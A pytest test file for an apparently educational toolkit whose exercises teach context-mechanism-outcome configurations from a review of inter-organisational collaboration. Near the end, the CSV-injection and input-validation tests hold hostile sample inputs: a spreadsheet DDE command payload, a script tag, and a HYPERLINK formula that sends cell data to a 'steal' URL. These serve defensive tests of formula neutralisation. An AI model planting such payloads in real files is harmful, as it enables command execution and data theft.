"""Exercise checkers accept right answers, reject wrong ones, and explain with the review's words and numbers."""

from __future__ import annotations

import csv
import io

import pytest

from iockit.errors import IockitError
from iockit.teach import exercises as ex
from iockit.teach.answers import AnswerSheet, before_after, read_answers, summarise


# --- classify -------------------------------------------------------------------------------------
def test_classify_items_are_the_cells_of_the_cmocs(theory):
    items = ex.classify_items(["T3-26", "TX-06"])
    assert len(items) == 6
    assert {(i.cmoc, i.role) for i in items} == {(c, r) for c in ("T3-26", "TX-06") for r in ex.ROLES}
    assert next(i for i in items if i.id == "T3-26/context").statement == theory.cmocs["T3-26"].context
    assert [i.id for i in items] == [i.id for i in ex.classify_items(["T3-26", "TX-06"])]  # stable order


def test_classify_right_and_wrong():
    right = ex.check_classify("T3-26/context", "context")
    assert right.correct is True and "Significant conflict" in right.message
    assert "[25]" in right.message                       # the Methods' definition of a context
    assert "[47, 69]" in right.text()                    # the CMOC's reference numbers
    wrong = ex.check_classify("T3-26/context", "mechanism")
    assert wrong.correct is False
    assert "is the context, not the mechanism" in wrong.message and "[47, 69]" in wrong.text()


def test_classify_explains_chaining_when_the_words_play_another_part():
    # "Reduced trust" is the outcome of T3-29 and the context of other CMOCs (TX-13)
    fb = ex.check_classify("T3-29/outcome", "outcome")
    assert fb.correct is True
    assert "CMOCs chain" in fb.text() and "element of analysis" in fb.text()


def test_classify_items_name_their_cmoc_and_the_role_asked_is_the_role_there(theory):
    item = next(i for i in ex.classify_items(["T3-18"]) if i.role == "outcome")
    assert item.statement == "Reduced trust" and item.source().startswith("T3-18 (Table 3, row 18")


def test_classify_reduced_trust_names_every_other_role_with_the_cmoc_ids():
    """Issue 14.1: a factor has no fixed role; the feedback says where else the words play which part."""
    roles = ex.other_roles("Reduced trust", "T3-18")
    assert "T3-19" in roles["mechanism"] and "T3-23" in roles["context"]
    as_mechanism = ex.check_classify("T3-18/outcome", "mechanism")
    assert as_mechanism.correct is False and as_mechanism.alternatives == roles["mechanism"]
    assert as_mechanism.message.startswith("Right for T3-19") and "asks about T3-18" in as_mechanism.message
    as_context = ex.check_classify("T3-18/outcome", "context")
    assert as_context.correct is False and "T3-23" in as_context.alternatives
    assert as_context.verdict == "right for another row"
    for fb in (as_mechanism, as_context, ex.check_classify("T3-18/outcome", "outcome")):
        text = fb.text()
        assert "the mechanism of T3-19" in text and "T3-23" in text and "the context of" in text
    # a statement whose words play no other part gets no such note, and a plain "not quite"
    plain = ex.check_classify("T3-18/context", "outcome")
    assert plain.correct is False and not plain.alternatives and plain.message.startswith("Not quite")


@pytest.mark.parametrize("item,answer,field", [("T3-99/context", "context", "item"), ("T3-26/cause", "context", "item"),
                                               ("T3-26/context", "cause", "answer")])
def test_classify_bad_input_is_an_error_naming_the_field(item, answer, field):
    with pytest.raises(IockitError) as err:
        ex.check_classify(item, answer)
    assert err.value.field == field


# --- build ------------------------------------------------------------------------------------------
def test_build_item_offers_the_right_factors_among_others(theory):
    item = ex.build_item("T3-22")
    assert item.excerpt == theory.cmocs["T3-22"].quote
    assert "formalisation" in item.options["context"] and "trust" in item.options["mechanism"]
    assert set(item.options["outcome"]) & {"risk_tolerance", "ambition"}
    assert all(len(v) == 5 for v in item.options.values())
    with pytest.raises(IockitError):
        ex.build_item("T3-01")  # no quote to build from


def test_build_right_wrong_factor_and_wrong_sign():
    assert ex.check_build("T3-22", "formalisation", "trust", "risk_tolerance", "+", "+").correct is True
    swapped = ex.check_build("T3-22", "trust", "formalisation", "risk_tolerance", "+", "+")
    assert swapped.correct is False and "the context and the mechanism do not fit" in swapped.message
    sign = ex.check_build("T3-22", "formalisation", "trust", "risk_tolerance", "-", "+")
    assert sign.correct is False and "the sign of the link from context to mechanism" in sign.message
    right = ex.check_build("T3-22", "formalisation", "trust", "risk_tolerance", "+", "+")
    assert "Casey [53]" in right.text() and "[44, 47, 53, 82, 86]" in right.text()


def test_a_wrong_build_does_not_reveal_the_row_and_hints_are_graded():
    """Issue 14.2: which part is off first; the review's words on request; the row only at level 2."""
    wrong = ex.check_build("T3-22", "trust", "formalisation", "risk_tolerance", "+", "+")
    assert not wrong.details and not wrong.cmocs
    for secret in ("T3-22", "Legal agreements", "[44, 47, 53, 82, 86]", "Greater initial trust"):
        assert secret not in wrong.text()
    first = ex.build_hint("T3-22", "trust", "formalisation", "risk_tolerance", "+", "+", 1)
    assert "\u201cLegal agreements\u201d" in first.message and "T3-22" not in first.text()
    sign = ex.build_hint("T3-22", "formalisation", "trust", "risk_tolerance", "-", "+", 1)
    assert "does more Formalisation" in sign.message and "raises" not in sign.message
    answer = ex.build_hint("T3-22", "trust", "formalisation", "risk_tolerance", "+", "+", 2)
    assert "T3-22" in answer.message and "raises Trust" in answer.message and "[44, 47, 53, 82, 86]" in answer.text()
    assert ex.ANSWER_AFTER >= 2


def test_a_build_that_fits_another_row_citing_the_quote_is_right_by_that_row():
    """Issue 14.4: Formalisation -> Confidence -> Synergy for Casey's quote [53] is T3-27, which also cites [53]."""
    fb = ex.check_build("T3-22", "formalisation", "confidence", "synergy", "+", "+")
    assert fb.correct is True and fb.alternatives == ("T3-27",)
    assert "Right by another row of the review" in fb.message and "T3-27" in fb.message and "[53]" in fb.message
    assert "T3-22" not in fb.text()          # the row the excerpt was chosen for is left to find
    # the review's twin row in the text (TX-05: legal agreements -> trust -> perception of progress)
    twin = ex.check_build("T3-22", "formalisation", "trust", "progress", "+", "+")
    assert twin.correct is True and twin.alternatives == ("TX-05",)
    # a row that does not cite the quote's source is no alternative
    assert ex.check_build("T3-22", "formalisation", "trust", "synergy", "+", "+").correct is False


def test_build_negative_links_need_the_negative_sign():
    # TX-10: accountability lowers conflict, conflict lowers trust
    assert ex.check_build("TX-10", "accountability", "conflict", "trust", "-", "-").correct is True
    assert ex.check_build("TX-10", "accountability", "conflict", "trust", "+", "-").correct is False


def test_build_rejects_unknown_factors_and_signs():
    with pytest.raises(IockitError) as err:
        ex.check_build("T3-22", "legal_stuff", "trust", "risk_tolerance", "+", "+")
    assert err.value.field == "context"
    with pytest.raises(IockitError) as err:
        ex.check_build("T3-22", "formalisation", "trust", "risk_tolerance", "up", "+")
    assert err.value.field == "context_sign"


# --- predict, observe, explain -------------------------------------------------------------------
def test_every_poe_item_has_a_clear_observed_direction_and_a_valid_key():
    from iockit.sim.fidelity import load_encoding

    enc = {e.cmoc: e for e in load_encoding()}
    for item in ex.poe_items().values():
        obs = ex.observe(item.id)
        assert abs(obs.change) > 2 * ex.SAME, item.id     # not a borderline call
        for ident in item.explain:
            assert enc[ident].check_context in (item.context, f"initial:{item.context}"), (item.id, ident)
        assert set(item.explain) & set(ex.explain_options(item.id))


def test_prediction_is_judged_by_the_simulation():
    obs = ex.observe("poe_ambition")
    assert obs.direction == "falls"
    assert ex.check_prediction("poe_ambition", "falls").correct is True
    wrong = ex.check_prediction("poe_ambition", "rises")
    assert wrong.correct is False and f"{obs.before:.2f} to {obs.after:.2f}" in wrong.message
    assert ex.check_prediction("poe_ambition", "stays about the same").correct is False
    with pytest.raises(IockitError):
        ex.check_prediction("poe_ambition", "explodes")


def test_explanation_needs_the_cmocs_that_carry_the_effect():
    assert ex.check_explanation("poe_ambition", ["T3-24"]).correct is True
    assert ex.check_explanation("poe_ambition", ["T3-24", "T3-18", "TX-17"]).correct is True
    wrong = ex.check_explanation("poe_ambition", ["T3-24", "T3-22"])
    assert wrong.correct is False and "T3-22" in wrong.message
    assert ex.check_explanation("poe_ambition", []).correct is False
    assert "[1, 37, 46, 52, 67]" in ex.check_explanation("poe_ambition", ["T3-24"]).text()


def test_explanations_follow_the_direction_of_the_change_from_the_encoding_data(theory):
    """Issue 14.3: raising ambition from realistic to overambitious is explained by the overambition rows."""
    key = ex.key_for("poe_ambition")
    assert set(key.core) == {"T3-24", "T3-18"}                        # overambition -> failure -> trust
    assert not {"T3-25", "TX-01", "T3-07"} & set(key.right)           # unambitious aims: the other end
    fb = ex.check_explanation("poe_ambition", ["T3-24", "T3-25", "TX-01"])
    assert fb.correct is False and "T3-25 is about Ambition of aims moving from 0.1" in fb.message
    # the same rows, read from the encoding table: lowering ambition from overambitious to realistic
    back = ex.explain_key("ambition", 0.95, 0.5, "trust", 1)
    assert set(back.core) == {"T3-24", "T3-18"}
    # and moving from unambitious to realistic is the unambitious rows' span
    low = ex.explain_key("ambition", 0.1, 0.5, "faith", None)
    assert "T3-25" in low.right and "T3-24" not in low.right
    # a row of the same context that would move the measure the other way is not an explanation
    mandate = ex.key_for("poe_mandate")
    assert {"T3-30", "TX-38"} <= set(mandate.core) and "TX-40" in mandate.other_way
    # every item's key is read from the encoding table, and its context is the item's context
    for item in ex.poe_items().values():
        assert item.explain and all(theory.encoding[i].check_context.endswith(item.context) for i in item.explain)


def test_poe_hints_before_answers():
    """Issue 14.2: the prediction's feedback and an empty check name no CMOC; a first wrong check gets a
    hint; the model's CMOCs are shown after a checked explanation."""
    import re

    for prediction in ex.PREDICTIONS:
        fb = ex.check_prediction("poe_ambition", prediction)
        assert not re.search(r"\b(T3|TX)-\d+", fb.text()) and not fb.cmocs
    empty = ex.check_explanation("poe_ambition", [])
    assert "Choose at least one" in empty.message and not empty.details and not empty.cmocs
    hint = ex.check_explanation("poe_ambition", ["T3-22"], reveal=False)
    assert hint.correct is False and "Hint:" in hint.message and "overambitious" in hint.message
    assert "T3-24" not in hint.text() and not hint.details
    shown = ex.check_explanation("poe_ambition", ["T3-22"], reveal=True)
    assert "T3-24" in shown.text() and shown.details
    assert ex.check_explanation("poe_ambition", ["T3-24"], reveal=False).details   # right: shown at once


def test_explain_options_offer_the_key_and_rows_of_the_other_span():
    for item in ex.poe_items().values():
        options = ex.explain_options(item.id)
        assert set(item.explain) & set(options), item.id
    assert {"T3-25", "TX-01"} & set(ex.explain_options("poe_ambition"))


# --- two cases ------------------------------------------------------------------------------------
ACCESS = {"conflict_resolution": 0.9, "accountability": 0.8}
COLLAB = {"conflict_resolution": 0.2, "resource_equality": 0.1, "power_balance": 0.2}


def test_cases_right_configuration_and_cmocs():
    fb = ex.check_cases(ACCESS, COLLAB, ["T3-20", "TX-10"], ["T3-29", "T3-26"])
    assert fb.correct is True
    assert "Access ACO" in fb.text() and "[47]" in fb.text() and "T3-26" in fb.text()


def test_cases_reject_outcomes_that_do_not_match_the_review():
    fb = ex.check_cases(ACCESS, ACCESS, ["T3-20"], ["T3-29", "T3-26"])
    assert fb.correct is False and "there is no contrast between them yet" in fb.message
    wrong_way = ex.check_cases({"resource_equality": 0.0}, {"conflict_resolution": 1.0}, ["T3-20"], ["T3-29", "T3-26"])
    assert wrong_way.correct is False and "runs the wrong way round" in wrong_way.message


def test_cases_judge_direction_and_size_of_the_contrast_relative_to_the_model():
    """Issue 14.7: 0% against 44% is the review's contrast; thresholds are shares of the model's own contrast."""
    key = ex.cases_key()
    ref = ex.model_contrast()
    assert ref.size > 0.5                                   # the model separates the answer's two cases
    fb = ex.check_cases({"conflict_resolution": 1.0}, {"resource_equality": 0.0}, ["T3-20", "TX-08"],
                        ["T3-29", "T3-26"])
    assert fb.correct is True, fb.message
    # graded: the same runs judged against a model whose contrast is larger or smaller
    a, b = ex.CaseRun(0.0, 0.9), ex.CaseRun(0.44, 0.3)
    assert ex.judge_contrast(key, a, b)[0] == "ok"
    small = ex.CaseRun(key.contrast_share * ref.size * 0.5, 0.5)
    verdict, words = ex.judge_contrast(key, a, small)
    assert verdict == "almost" and "direction is right" in words and "percentage points" in words
    assert ex.judge_contrast(key, b, a)[0] == "wrong"
    assert ex.judge_contrast(key, a, a)[0] == "wrong"
    almost = ex.check_cases(ACCESS, {"resource_equality": 0.3}, ["T3-20"], ["T3-29", "T3-26"])
    if ex.judge_contrast(key, ex.run_case(ACCESS), ex.run_case({"resource_equality": 0.3}))[0] == "almost":
        assert almost.message.startswith("Almost: ")


def test_cases_thresholds_are_not_constants_of_the_model():
    import yaml

    from iockit.teach.exercises.common import TEACH_DIR

    raw = yaml.safe_load((TEACH_DIR / "cases.yaml").read_text(encoding="utf-8"))
    assert "intact_at_most" not in raw and "dissolved_at_least" not in raw
    assert 0 < raw["contrast_share"] < 1 and 0 < raw["noise_share"] < raw["contrast_share"]


def test_cases_reject_the_right_outcome_for_the_wrong_reason():
    # dissolving through over-ambition alone is not what Murray et al. report
    fb = ex.check_cases(ACCESS, {"ambition": 1.0, "conflict_resolution": 0.6}, ["T3-20"], ["T3-29", "T3-26"])
    assert fb.correct is False and "Resource equality or Balance of power" in fb.message


def test_cases_reject_wrong_cmocs():
    fb = ex.check_cases(ACCESS, COLLAB, ["T3-29"], ["T3-20"])
    assert fb.correct is False and "conflict resolution or accountability" in fb.message
    fb = ex.check_cases(ACCESS, COLLAB, ["T3-20"], ["T3-29"])
    assert fb.correct is False and "T3-26" in fb.message


# --- contest ------------------------------------------------------------------------------------------
def test_proposal_that_restates_the_review():
    p = ex.propose("formalisation", "trust", "risk_tolerance", "+", "+")
    assert "T3-22" in p.restates and not p.contradicts and not p.new_factors


def test_proposal_that_contradicts_the_review_and_adds_a_factor():
    p = ex.propose("Joint training", "cultural_compatibility", "conflict", "+", "+")
    assert p.new_factors == ("joint_training",)
    assert any("T3-15" in c for c in p.contradicts)
    assert p.summary().correct is None


def test_proposal_finds_the_loops_it_closes(web):
    # faith -> trust closes trust -> faith (T3-06-type links) into a two-factor reinforcing loop
    p = ex.propose("faith", "trust", "ambition", "+", "+")
    assert "reinforcing: faith \u2192 trust \u2192 faith" in p.loops
    # a balancing proposal: more achievement lowers risk tolerance closes a balancing loop
    q = ex.propose("achievement", "risk_tolerance", "ambition", "-", "+")
    assert any(lp.startswith("balancing") for lp in q.loops)


def test_proposal_exports_a_cmocs_csv_row(theory):
    p = ex.propose("faith", "trust", "ambition", "+", "+", evidence="seen in our ICS")
    rows = list(csv.DictReader(io.StringIO(p.to_csv("LEARNER-07"))))
    assert rows[0]["id"] == "LEARNER-07" and rows[0]["links"] == "faith->trust:+;trust->ambition:+"
    from iockit._data import default_package_dir, read_rows

    header, _ = read_rows(default_package_dir() / "cmocs.csv")
    assert list(rows[0]) == header                       # same columns as the dataset


def test_contest_reads_the_learners_words():
    """Issue 14.6: labels and the review's names, any case; contradictions found whatever was typed."""
    assert ex.find_factor("Mandated collaboration").key == "mandated"
    assert ex.find_factor("  mandated   COLLABORATION ").key == "mandated"
    assert ex.find_factor("legal agreements").key == "formalisation"        # the words inside its label
    assert ex.find_factor("Reduced trust").key == "trust"                   # a cell of the review naming trust alone
    assert ex.find_factor("prior_collaboration").key == "prior_collaboration"
    miss = ex.find_factor("Shared visoin")
    assert miss.key is None and miss.suggestions[0] == "Shared vision"
    for typed in ("Mandated collaboration", "mandated", "MANDATED COLLABORATION"):
        p = ex.propose(typed, "Trust", "Faith", "+", "+")
        assert p.context == "mandated" and not p.new_factors
        assert any("T3-30" in c and "TX-38" in c for c in p.contradicts), typed
        assert "you say Mandated collaboration raises Trust" in p.summary().message


def test_contest_speaks_in_labels_not_code_keys():
    import re

    p = ex.propose("faith", "trust", "ambition", "+", "+")
    fb = p.summary()
    assert "Faith raises Trust, which raises Ambition of aims" in fb.message
    assert "reinforcing: Faith \u2192 Trust \u2192 Faith" in fb.details
    assert not re.search(r"\b[a-z]+_[a-z_]+\b", fb.text())                 # no key like risk_tolerance
    new = ex.propose("Joint trainin", "Cultural compatibility", "conflict", "+", "+")
    assert new.new_factors == ("joint_trainin",) and "\u201cJoint trainin\u201d" in new.summary().message


@pytest.mark.parametrize("typed", ["", "   ", "x" * 61, "trust<script>", "=cmd|' /C calc'!A0", "...", "()"])
def test_contest_odd_input_gets_a_plain_sentence(typed):
    import re

    problem = ex.name_problem(typed, "context")
    assert problem and problem.endswith(".") and not re.search(r"iockit|`|_key|\bkey\b|allowed:", problem)


@pytest.mark.parametrize("args,field", [(("trust", "trust", "faith"), "factors"), (("", "trust", "faith"), "context"),
                                        (("faith", "trust<script>", "x"), "mechanism")])
def test_proposal_bad_input(args, field):
    with pytest.raises(IockitError) as err:
        ex.propose(*args)
    assert err.value.field == field


# --- questionnaire and answer sheets --------------------------------------------------------------------
def test_questionnaire_checker():
    from iockit.teach.lessons import questionnaire

    q = questionnaire()[0]
    assert ex.check_question(q.id, q.answer).correct is True
    other = (q.answer + 1) % len(q.options)
    fb = ex.check_question(q.id, other)
    assert fb.correct is False and q.options[q.answer] in fb.message
    with pytest.raises(IockitError):
        ex.check_question(q.id, len(q.options))


def test_answer_sheet_round_trip_and_summaries():
    a, b = AnswerSheet("Ann"), AnswerSheet("Bo")
    a.record("trust_loop", "poe", "poe_ambition/predict", "rises", False, "no")
    a.record("trust_loop", "poe", "poe_ambition/predict", "falls", True, "yes")
    b.record("trust_loop", "poe", "poe_ambition/predict", "falls", True, "yes")
    for sheet, before, after in ((a, False, True), (b, True, True)):
        sheet.record("questionnaire", "before", "q1", "x", before)
        sheet.record("questionnaire", "after", "q1", "y", after)
    rows = read_answers(a.to_csv()) + read_answers(b.to_csv())
    (s,) = summarise(rows)
    assert s["learners"] == 2 and s["right_first_try"] == 0.5 and s["right_in_the_end"] == 1.0
    (q,) = before_after(rows)
    assert q["right_before"] == 0.5 and q["right_after"] == 1.0 and q["change"] == 0.5
    assert a.filename("trust_loop") == "iockit-trust_loop-ann.csv"


def test_answer_files_neutralise_spreadsheet_formulas_and_read_back_as_text():
    """Issue 14.8 (OWASP, CSV injection): a reflection starting =, +, -, @, tab or CR opens as text."""
    from iockit.teach.answers import FORMULA_START, neutralise

    sheet = AnswerSheet("=cmd|' /C calc'!A0")
    typed = ['=HYPERLINK("http://example.com/steal?x="&A1,"Click me")', "+1+1", "-2+3", "@SUM(A1:A9)",
             "\tindented", " =1+1", "First line\nsecond line\n\nafter a blank line"]
    for text in typed:
        sheet.record("realist_basics", "question", "q1", text, None, "=1+1")
    raw = sheet.to_csv()
    cells = list(csv.reader(io.StringIO(raw)))[1:]
    for row in cells:
        assert all(not cell.lstrip(" ").startswith(FORMULA_START) for cell in row), row
    assert cells[0][4].startswith("'=HYPERLINK(") and cells[1][4] == "'+1+1"
    assert '"First line\nsecond line\n\nafter a blank line"' in raw               # line breaks kept, quoted
    back = read_answers(raw)
    assert [r["answer"] for r in back] == [" ".join(t.split()) if "\n" not in t else t for t in typed]
    assert back[0]["learner"] == "=cmd|' /C calc'!A0" and back[0]["feedback"] == "=1+1"
    assert neutralise("plain text") == "plain text" and neutralise("'quoted") == "'quoted"
    assert neutralise("\tx") == "'\tx" and neutralise("\r=1") == "'\r=1" and neutralise("@x") == "'@x"


def test_older_answer_files_still_read():
    old = ("learner,lesson,exercise,item,answer,correct,feedback,at\n"
           "Ann,realist_basics,build,TX-04,prior_collaboration +> trust +> ambition,yes,Right.,2024-01-01T10:00:00Z\n"
           "Ann,questionnaire,before,q1,x,no,,2024-01-01T10:00:00Z\n"
           "Ann,questionnaire,after,q1,y,yes,,2024-01-02T10:00:00Z\n")
    rows = read_answers(old)
    assert rows[0]["answer"] == "prior_collaboration +> trust +> ambition"
    (q,) = before_after(rows)
    assert q["change"] == 1.0 and q["improved"] == 1 and q["worsened"] == 0


def test_build_answers_are_written_in_words():
    pytest.importorskip("ipywidgets")
    from iockit.widgets.exercise import BuildExercise

    e = BuildExercise(AnswerSheet("a"), "realist_basics", "TX-10")
    e.fill("accountability", "conflict", "trust", "-", "-")
    answer = e.sheet.rows[-1]["answer"]
    assert answer.startswith("Accountability arrangements") and "lowers Inter-organisational conflict" in answer
    assert "->" not in answer and "+>" not in answer


def test_pre_test_answers_are_marked_when_pooled_and_change_is_per_question():
    from iockit.teach.lessons import questionnaire

    q = questionnaire()[0]
    wrong = q.options[(q.answer + 1) % len(q.options)]
    rows = []
    for who, before, after in (("ann", wrong, q.options[q.answer]), ("bo", q.options[q.answer], wrong),
                               ("cy", wrong, wrong)):
        s = AnswerSheet(who)
        s.record("questionnaire", "before", q.id, before, None)        # recorded without marking
        s.record("questionnaire", "after", q.id, after, after == q.options[q.answer])
        rows += read_answers(s.to_csv())
    (row,) = before_after(rows)
    assert row["n_before"] == 3 and row["right_before"] == 0.33 and row["right_after"] == 0.33
    assert row["learners_both"] == 3 and row["improved"] == 1 and row["worsened"] == 1 and row["change"] == 0.0


def test_questionnaire_length_does_not_give_the_answer_away():
    """Issue 14.5: the right option is not systematically the longest."""
    from iockit.teach.lessons import questionnaire

    items = questionnaire()
    longest = sum(len(q.options[q.answer]) == max(map(len, q.options)) for q in items)
    assert longest <= len(items) // 4 + 1, longest
    ranks = [sorted(map(len, q.options), reverse=True).index(len(q.options[q.answer])) for q in items]
    assert sum(ranks) / len(ranks) >= 1.0                     # on average not among the longest
    assert len({q.answer for q in items}) >= 3               # nor always in the same place


def test_answer_files_that_are_not_are_rejected():
    with pytest.raises(IockitError) as err:
        read_answers("name,score\nAnn,3\n", "marks.csv")
    assert "missing learner" in err.value.message
    sheet = AnswerSheet("x")
    sheet.record("l", "e", "i", "a", True)
    with pytest.raises(IockitError):
        read_answers(sheet.to_csv().replace('"yes"', '"maybe"'))


def test_every_evidence_quote_can_be_built_and_its_key_is_accepted(theory):
    quoted = [c.id for c in theory.cmocs.values() if c.quote]
    assert len(quoted) >= 15
    for ident in quoted:
        right = ex.answer_build(ident)
        assert ex.check_build(ident, *right).correct is True, ident
        item = ex.build_item(ident)
        assert all(k in item.options[role] for k, role in zip(right[:3], ex.ROLES, strict=True)), ident


def test_the_cases_key_is_accepted():
    access, collaborative, a_ids, b_ids = ex.answer_cases()
    assert ex.check_cases(access, collaborative, a_ids, b_ids).correct is True


def test_cli_lessons_and_answers(tmp_path, capsys):
    from iockit.cli import main

    assert main(["lessons", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert out.splitlines()[0] == "order,key,title,notebook,exercises,cmocs" and "lessons/04_conflict_power_culture.ipynb" in out
    files = []
    for name, before, after in (("ann", "no", "yes"), ("bo", "no", "no")):
        s = AnswerSheet(name)
        s.record("questionnaire", "before", "q1", "a", before == "yes")
        s.record("questionnaire", "after", "q1", "b", after == "yes")
        s.record("trust_loop", "poe", "poe_ambition/predict", "falls", True)
        files.append(tmp_path / f"{name}.csv")
        files[-1].write_text(s.to_csv())
    assert main(["answers", *map(str, files), "--before-after", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "q1,2,0,2,0.5,0.5" in out
    assert main(["answers", *map(str, files), "--format", "json"]) == 0
    assert '"right_first_try": 1.0' in capsys.readouterr().out
    bad = tmp_path / "marks.csv"
    bad.write_text("name,mark\nann,3\n")
    assert main(["answers", str(bad)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "marks.csv" in err and "missing learner" in err


def test_the_exercise_package_keeps_its_public_names_and_small_parts():
    """One module per exercise kind, re-exported; modules <= 400 lines, functions <= 40 lines."""
    import ast
    from pathlib import Path

    for name in ("ROLES", "SIGNS", "Feedback", "cmoc_line", "ClassifyItem", "classify_items", "check_classify",
                 "BuildItem", "build_item", "check_build", "answer_build", "PREDICTIONS", "SAME", "MEASURES", "PoeItem",
                 "poe_items", "poe_item", "Observation", "observe", "check_prediction", "explain_options",
                 "check_explanation", "CaseRun", "run_case", "check_cases", "answer_cases", "Proposal", "propose",
                 "check_question", "ROLE_MEANING", "LEVEL_OF_ANALYSIS"):
        assert getattr(ex, name) is not None, name
    assert ex.cases_key().quote == ex.CASES_QUOTE and "[47]" in ex.CASES_QUOTE and ex.CASES_SOURCE
    for path in Path(ex.__file__).parent.glob("*.py"):
        text = path.read_text(encoding="utf-8")
        assert len(text.splitlines()) <= 400, path.name
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                assert node.end_lineno - node.lineno + 1 <= 40, f"{path.name}: {node.name}"
